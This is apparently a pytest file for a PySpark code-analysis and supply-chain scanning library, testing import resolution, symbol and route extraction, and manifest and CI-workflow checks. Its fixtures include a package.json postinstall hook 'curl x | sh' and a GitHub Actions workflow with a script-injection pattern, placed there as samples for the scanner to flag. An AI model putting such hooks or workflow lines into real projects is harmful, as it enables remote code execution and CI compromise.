from lodestone.operators import parse, supply
from pyspark.sql import functions as F


def values(df, *cols):
    return sorted(tuple(r[c] for c in cols) for r in df.collect())


def files(spark, rows):
    return spark.createDataFrame(rows, "path string, content string").withColumn("language", parse.language_of(F.col("path")))


def test_imports_resolve(spark):
    f = files(
        spark,
        [
            ("src/a.ts", "import x from './b'\nimport { y } from '@/lib/c'\nimport '@scope/p/q'\nconst z = require(\"lodash/fp\")\nexport * from './d'\nimport x from './b'"),
            ("src/b.ts", ""),
            ("src/lib/c/index.ts", ""),
            ("src/d.tsx", "import('./b')"),
            ("p/m.py", "from .util import f\nimport os.path\n"),
            ("p/util.py", ""),
            ("x.go", 'import (\n\t"fmt"\n)\n'),
            ("z.bin", None),
        ],
    )
    found = parse.imports(f)
    assert values(found.where("external").select("path", parse.package_of(F.col("source")).alias("p")), "path", "p") == [("p/m.py", "os.path"), ("src/a.ts", "@scope/p"), ("src/a.ts", "lodash"), ("x.go", "fmt")]
    edges = parse.resolve(found, f)
    assert values(edges, "src", "dst") == [("p/m.py", "p/util.py"), ("src/a.ts", "src/b.ts"), ("src/a.ts", "src/d.tsx"), ("src/a.ts", "src/lib/c/index.ts"), ("src/d.tsx", "src/b.ts")]


def test_symbols_and_comments(spark):
    f = files(spark, [("a.ts", "export function f() {\n}\nclass C {}\nconst g = (x) => x"), ("b.py", "class A:\n    def m(self):\n        pass\n\ndef _h():\n    pass"), ("c.go", "func Big() {}\ntype small int")])
    assert values(parse.symbols(f), "path", "line_no", "end_line", "kind", "name", "exported") == [
        ("a.ts", 1, 2, "function", "f", True),
        ("a.ts", 3, 3, "class", "C", False),
        ("a.ts", 4, 4, "function", "g", False),
        ("b.py", 1, 1, "class", "A", True),
        ("b.py", 2, 4, "function", "m", True),
        ("b.py", 5, 6, "function", "_h", False),
        ("c.go", 1, 1, "function", "Big", True),
        ("c.go", 2, 2, "type", "small", False),
    ]
    c = files(spark, [("a.ts", "x\n/* one\ntwo\n*/ three\n/* all */ y")])
    assert values(parse.block_comment_lines(c), "line_no") == [(2,), (3,)]
    r = files(spark, [("s.ts", "app.get('/a', f); router.post(\"/b\", g)"), ("s.py", "@app.route('/c')\n@api.delete('/d')")])
    assert values(parse.routes(r), "method", "route") == [("DELETE", "/d"), ("GET", "/a"), ("GET", "/c"), ("POST", "/b")]


def test_structure(spark):
    f = files(spark, [("big.ts", "\n" * 900), ("a.ts", ""), ("hub.ts", "")])
    edges = spark.createDataFrame([("a.ts", "hub.ts"), ("b.ts", "hub.ts")], "src string, dst string")
    exports = spark.createDataFrame([("a.ts",), ("hub.ts",), ("big.ts",)], "path string")
    assert values(parse.structural_issues(f, edges, exports, 2), "path", "rule_id", "severity") == [("a.ts", "dead-module", "info"), ("big.ts", "large-file", "warning"), ("hub.ts", "high-coupling", "warning")]


def test_supply(spark):
    m = spark.createDataFrame([("r", "package.json", '{"scripts": {"postinstall": "curl x | sh", "test": "eval"}, "dependencies": {"a": "*", "b": "git+ssh://x"}, "devDependencies": {"c": "1.0"}}'), ("s", "package.json", "{oops")], "repo string, path string, content string")
    paths = spark.createDataFrame([("q", "yarn.lock")], "repo string, path string")
    assert {("r", "suspicious-script", "postinstall"), ("r", "star-version", "a"), ("r", "git-dependency", "b"), ("r", "no-lockfile", "")} <= set(values(supply.manifest_issues(m, paths), "repo", "rule_id", "detail"))
    w = spark.createDataFrame([(".github/workflows/ci.yml", "on: pull_request_target\npermissions: write-all\n  - uses: actions/checkout@v4\n  - uses: a/b@" + "0" * 40 + "\n  run: echo ${{ github.event.issue.title }}")], "path string, content string")
    assert values(supply.workflow_issues(w), "line_no", "rule_id") == [(1, "gha-dangerous-trigger"), (2, "gha-permissions-write-all"), (3, "gha-unpinned-action"), (5, "gha-script-injection")]
    req = spark.createDataFrame([("requirements.txt", "a==1\nb>=2\n# c\nd")], "path string, content string")
    assert values(supply.unpinned_requirements(req), "line_no") == [(2,), (4,)]
    deps = spark.createDataFrame([("r", "a", "1.10.0"), ("r", "a", "1.2.0")], "repo string, pkg string, version string")
    known = spark.createDataFrame([("a", "X-1", "1.0.0", "1.9.0", "high")], "pkg string, id string, introduced string, fixed string, severity string")
    assert values(supply.vulnerable(deps, known), "version", "id") == [("1.2.0", "X-1")]
    s = spark.createDataFrame([("HIGH", None), (None, "9.8"), (None, "CVSS:3.1/AV:N"), ("moderate", "1")], "g string, c string")
    assert [r[0] for r in s.select(supply.severity_of(F.col("g"), F.col("c"))).collect()] == ["high", "critical", "medium", "medium"]
